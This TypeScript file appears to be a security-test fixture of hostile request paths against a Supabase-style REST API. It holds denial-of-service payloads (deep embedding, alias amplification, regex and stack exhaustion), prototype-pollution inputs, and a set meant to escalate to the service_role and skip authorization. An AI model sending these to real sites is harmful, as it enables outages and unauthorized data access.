/** Calls that a visitor with the page's public key can make, each written to harm the site. */

const TABLES = "/rest/v1";

/** Columns of a row that refers to rows that refer back to it, so many levels deep. */
export function deepEmbedding(levels: number): string {
  const names = ["celebration_ideas", "celebration_types"];
  const opened = Array.from({ length: levels }, (_, level) => `${names[level % 2]}(id`);
  return `${TABLES}/celebration_types?select=id,${opened.join(",")}${")".repeat(levels)}`;
}

/** One column under so many names: the answer is that many times as large. */
export function manyAliases(table: string, column: string, count: number): string {
  const names = Array.from({ length: count }, (_, n) => `a${n.toString(36)}:${column}`);
  return `${TABLES}/${table}?select=${names.join(",")}`;
}

/** Each makes the database recurse until its stack is full. */
export const DEEP_STACKS = {
  "a regular expression of repeated repetitions": `${TABLES}/partners?name=match.(a{255}){255}`,
  "a text search of negations": `${TABLES}/articles?search_text=fts.${"!".repeat(14_000)}`,
  "a path of 4,000 steps": `${TABLES}/partners?select=x:name${"->a".repeat(4_000)}`,
  "a filter with a path of 4,000 steps": `${TABLES}/partners?name${"->a".repeat(4_000)}=eq.1`,
} as const;

const ALIAS = "celebration_types?select=id,__proto__:celebration_ideas(id)&__proto__";

/** Sets what Supabase Lite notes about a request that its secret key has allowed, for all requests. */
export const TAKEOVER = [
  `${TABLES}/${ALIAS}.ignoreAuthorization.limit=1`,
  `${TABLES}/${ALIAS}.jwt.limit=x`,
  `${TABLES}/${ALIAS}.role.limit=service_role`,
] as const;

/** Something shaped like a token, signed by nobody. */
export const NO_TOKEN = { authorization: "Bearer a.b.c" };

/** More that reaches the prototype of all objects, or tries to. */
export const POLLUTING = [
  `${TABLES}/partners?__proto__=eq.1`,
  `${TABLES}/partners?constructor=eq.1`,
  `${TABLES}/partners?or=(__proto__.eq.1,id.is.null)`,
  `${TABLES}/partners?and=(__proto__.in.(1,2))`,
  `${TABLES}/partners?not.__proto__=eq.1`,
  `${TABLES}/partners?__proto__.id=eq.1`,
  `${TABLES}/partners?%5f%5fproto%5f%5f=eq.1`,
  `${TABLES}/partners?"__proto__"=eq.1`,
  `${TABLES}/partners?select=__proto__`,
  `${TABLES}/partners?select=__proto__:name`,
  `${TABLES}/partners?select=name::__proto__`,
  `${TABLES}/partners?order=__proto__.desc`,
  `${TABLES}/${ALIAS}.order=id`,
  `${TABLES}/${ALIAS}.id=eq.1`,
  `${TABLES}/${ALIAS}.a.b.limit=1`,
  `${TABLES}/${ALIAS}.or=(id.eq.1)`,
  `${TABLES}/${ALIAS}=is.null`,
  `${TABLES}/celebration_types?select=id,a:celebration_ideas(__proto__:celebration_types(id))&a.__proto__.x.limit=1`,
  `${TABLES}/celebration_types?select=id,constructor:celebration_ideas(id)&constructor.prototype.x.limit=1`,
  `${TABLES}/celebration_types?select=id,celebration_ideas(id)&celebration_ideas.__proto__.x.limit=1`,
  `${TABLES}/celebration_types?select=id,...celebration_ideas(id)&__proto__.x.limit=1`,
  `${TABLES}/rpc/is_published?__proto__=1&published=true`,
  `${TABLES}/__proto__?select=id`,
] as const;
